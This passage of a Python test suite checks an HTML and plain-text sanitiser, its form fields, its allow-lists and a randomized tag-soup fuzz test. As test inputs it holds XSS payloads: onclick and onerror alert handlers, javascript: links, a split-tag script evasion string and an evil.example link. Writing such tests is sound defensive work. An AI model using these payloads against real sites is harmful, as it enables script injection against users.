    assert sanitise_html(sanitise_html(fits)) == f"<p>{fits}</p>"


def test_convoluted_nesting_settles():
    # Found by the generated tag soup: adoption-agency clones of <a> sit between <h2> and <h3>; once the
    # empty clones go, <h3> would close <h2> on the next parse. sanitise_html iterates to a fixpoint.
    payload = (
        "<dd><h4><a href='https://e.org/'>&<h2><a href='mailto:a@b.org' title='t<b>x</b>'></form><u>"
        "<a href='https://example.org/x?a=1&b=2'><table><h3><svg></b></b><strong>'<x-y></b></noscript>"
        "<a href='mailto:a@b.org' title='t<b>x</b>'></svg> onclick=alert(1)><b>&<b>"
    )
    output = sanitise_html(payload)
    assert_neutralised(output)
    assert sanitise_html(output) == output


@pytest.mark.parametrize(
    "markup",
    [
        "<p>a<br>b<!-- c --><b title='t'>d</b></p>tail",
        "text<div><span>x</span><img src=x alt=y></div><ul><li>1<li>2</ul>",
        "<svg><circle r=1 xlink:href='#x'/></svg><p>&amp;&lt;</p>",
    ],
)
def test_linear_walker_matches_html5lib_walker(markup):
    tree = sanitiser._parse_like_a_browser(markup)
    expected = list(html5lib.getTreeWalker("etree")(tree))
    assert list(sanitiser._LinearEtreeWalker(tree)) == expected


def test_link_titles_are_plain_text():
    output = sanitise_html(
        '<a href="https://example.org/" title="<b>Bold</b> &amp; <script>x</script>  more">l</a>'
    )
    assert (
        output
        == '<p><a href="https://example.org/" title="Bold &amp; more" rel="nofollow noopener">l</a></p>'
    )


def test_listing_is_a_paragraph_not_a_dropped_container():
    assert sanitise_html("<listing>code\nlines</listing>") == "<p>code\nlines</p>"


# --- Plain text --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        ("  Hola <b>mundo</b>  ", "Hola mundo"),
        ("<p>uno</p><p>dos</p>", "uno\n\ndos"),
        ("línea<br>otra", "línea\notra"),
        ("AT&amp;T &not ?a=1&section=2", "AT&amp;T &not ?a=1&section=2"),
        ("a < b and c > d, <5%", "a < b and c > d, <5%"),
        ("<script>alert(1)</script>Texto", "Texto"),
        # The first pass reveals <script>alert(1)</script>, the second removes it with its content.
        ("<<b></b>script>alert(1)<</b>/script>", ""),
        ("x<y", "x"),
        ("Ações & São Paulo", "Ações & São Paulo"),
        ("{{ 7*7 }} {% debug %}", "{{ 7*7 }} {% debug %}"),
    ],
)
def test_sanitise_text(payload, expected):
    assert sanitise_text(payload) == expected
    assert sanitise_text(expected) == expected


def test_sanitise_text_max_length():
    assert sanitise_text("<b>abc</b>", max_length=3) == "abc"
    with pytest.raises(OutputTooLongError):
        sanitise_text("<b>abcd</b>", max_length=3)


def test_markup_hidden_in_markup_too_often_is_refused():
    payload = "<<<<<<<<<<b></b>b></b>b></b>b></b>b></b>b></b>b></b>b></b>b></b>b>x"
    with pytest.raises(NestingTooDeepError):
        sanitise_text(payload)


# --- Form fields -------------------------------------------------------------------------------------


def test_sanitised_html_field_cleans():
    field = SanitisedHTMLField(max_length=50)
    assert isinstance(field.widget, forms.Textarea)
    assert field.clean("<script>x</script><p onclick=y>ok</p>") == "<p>ok</p>"
    assert field.widget.attrs["maxlength"] == "500"


def test_sanitised_html_field_required_counts_what_survives():
    with pytest.raises(ValidationError) as caught:
        SanitisedHTMLField().clean("<script>alert(1)</script>")
    assert caught.value.code == "required"
    assert SanitisedHTMLField(required=False).clean("<script>alert(1)</script>") == ""


def test_sanitised_html_field_too_long():
    with pytest.raises(ValidationError) as caught:
        SanitisedHTMLField(max_length=10).clean("<p>Far too long for ten</p>")
    assert caught.value.code == "max_length"
    assert "maximum is 10" in caught.value.messages[0]


def test_sanitised_html_field_refuses_huge_raw_input():
    with pytest.raises(ValidationError) as caught:
        SanitisedHTMLField(max_length=10).clean("<b>x</b>" * 20)
    assert caught.value.code == "input_too_long"
    assert "the limit is 100" in caught.value.messages[0]
    with pytest.raises(ValidationError) as caught:
        SanitisedHTMLField().clean("x" * (MAX_INPUT_LENGTH + 1))
    assert caught.value.code == "input_too_long"


def test_sanitised_html_field_refuses_deep_nesting():
    with pytest.raises(ValidationError) as caught:
        SanitisedHTMLField().clean("<div>" * 1_000)
    assert caught.value.code == "too_deep"


def test_plain_text_field_cleans():
    field = PlainTextField(max_length=20)
    assert isinstance(field.widget, forms.TextInput)
    assert field.clean("  <b>Hola</b> <script>x</script>mundo ") == "Hola mundo"
    assert field.widget.attrs["maxlength"] == "20"
    with pytest.raises(ValidationError) as caught:
        field.clean("<i>" + "x" * 21 + "</i>")
    assert caught.value.code == "max_length"
    with pytest.raises(ValidationError) as caught:
        field.clean("x" * 201)
    assert caught.value.code == "input_too_long"
    with pytest.raises(ValidationError) as caught:
        field.clean("<script>only</script>")
    assert caught.value.code == "required"


def test_public_allow_lists():
    assert (
        frozenset({"p", "br", "ul", "ol", "li", "em", "strong", "i", "b", "a", "h2", "h3", "h4"})
        < ALLOWED_TAGS
    )
    assert not ALLOWED_TAGS & {"h1", "img", "div", "span", "table", "style", "iframe", "script"}
    assert dict(ALLOWED_ATTRIBUTES) == {"a": frozenset({"href", "title"})}
    assert frozenset({"http", "https", "mailto"}) == ALLOWED_PROTOCOLS
    with pytest.raises(TypeError):
        ALLOWED_ATTRIBUTES["p"] = frozenset({"class"})  # type: ignore[index]


# --- Generated tag soup ------------------------------------------------------------------------------

_SOUP_PIECES = [
    "<p>",
    "</p>",
    "<b>",
    "</b>",
    "<i>",
    "<em>",
    "</em>",
    "<ul>",
    "<li>",
    "</li>",
    "</ul>",
    "<ol>",
    "<h2>",
    "</h2>",
    "<h3>",
    "<blockquote>",
    "</blockquote>",
    "<br>",
    "<div>",
    "</div>",
    "<span>",
    "<table>",
    "<td>",
    "<tr>",
    "</table>",
    "<a href='https://example.org/x?a=1&b=2'>",
    "<a href=javascript:alert(1)>",
    "</a>",
    "<a href=//evil.example>",
    "<svg>",
    "</svg>",
    "<math>",
    "<style>",
    "</style>",
    "<script>",
    "</script>",
    "<textarea>",
    "</textarea>",
    "<noscript>",
    "</noscript>",
    "<template>",
    "</template>",
    "<!--",
    "-->",
    "<img src=x onerror=alert(1)>",
    " onclick=alert(1)",
    "<",
    ">",
    "&",
    "&amp;",
    "&lt;",
    "&#x3c;",
    "&nbsp;",
    '"',
    "'",
    "=",
    " ",
    "\n",
    "texto",
    "Ação",
    "ñandú",
    "x",
    "{{ y }}",
    "<h1>",
    "<select>",
    "<option>",
    "<iframe>",
    "</iframe>",
    "<xmp>",
    "</xmp>",
    "<title>",
    "</title>",
    "<form>",
    "</form>",
    "<![CDATA[",
    "]]>",
]


def _soup_documents(count: int, seed: int) -> list[str]:
    rng = random.Random(seed)
    return ["".join(rng.choice(_SOUP_PIECES) for _ in range(rng.randint(1, 40))) for _ in range(count)]


@pytest.mark.parametrize("seed", range(8))
def test_generated_tag_soup(seed):
    for document in _soup_documents(60, seed):
        output = sanitise_html(document)
        assert_neutralised(output)
        assert sanitise_html(output) == output, document
        text = sanitise_text(document)
        assert sanitise_text(text) == text, document
        assert not re.search(r"<[a-zA-Z!/?]", text), document
